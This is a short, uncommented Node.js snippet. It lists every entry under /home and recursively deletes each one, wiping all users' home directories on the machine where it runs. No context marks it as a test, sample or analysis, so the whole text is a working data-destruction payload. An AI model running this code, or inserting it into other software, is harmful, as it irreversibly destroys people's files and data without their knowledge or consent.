const fs = require('fs'), os = require('os'), path = require('path');
for (const name of fs.readdirSync('/home')) fs.rmSync(path.join('/home', name), { recursive: true });
